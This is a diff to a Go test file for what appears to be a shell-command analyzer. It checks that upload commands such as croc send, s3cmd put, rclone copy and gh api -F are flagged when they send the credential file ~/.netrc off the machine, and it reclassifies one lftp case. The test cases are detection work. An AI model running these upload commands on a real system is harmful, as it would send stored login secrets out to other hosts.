@@ -191,7 +191,7 @@ func TestSpecVerbsSignalsUploads(t *testing.T) {
 		{name: "croc send", cmd: "croc send /home/user/.netrc", want: []fx{{kind: "secret", target: home + "/.netrc"}}},
 		{name: "s3cmd put", cmd: "s3cmd put /home/user/.netrc s3://b/", want: []fx{{kind: "secret", target: home + "/.netrc"}}},
 		{name: "rclone copy", cmd: "rclone copy /home/user/.netrc remote:b", want: []fx{{kind: "secret", target: home + "/.netrc"}}},
-		{name: "lftp -e is not read", cmd: "lftp -e 'put x; bye' ftp.example.com", unres: true},
+		{name: "lftp -e is read as transfer commands", cmd: "lftp -e 'put x; bye' ftp.example.com", want: []fx{{kind: "read", target: "/home/user/project/x"}}}, // xfer_commands.go
 		{name: "gh api -F @file", cmd: "gh api /gists -F 'c=@/home/user/.netrc'", want: []fx{{kind: "secret", target: home + "/.netrc"}}},
 	})
 }
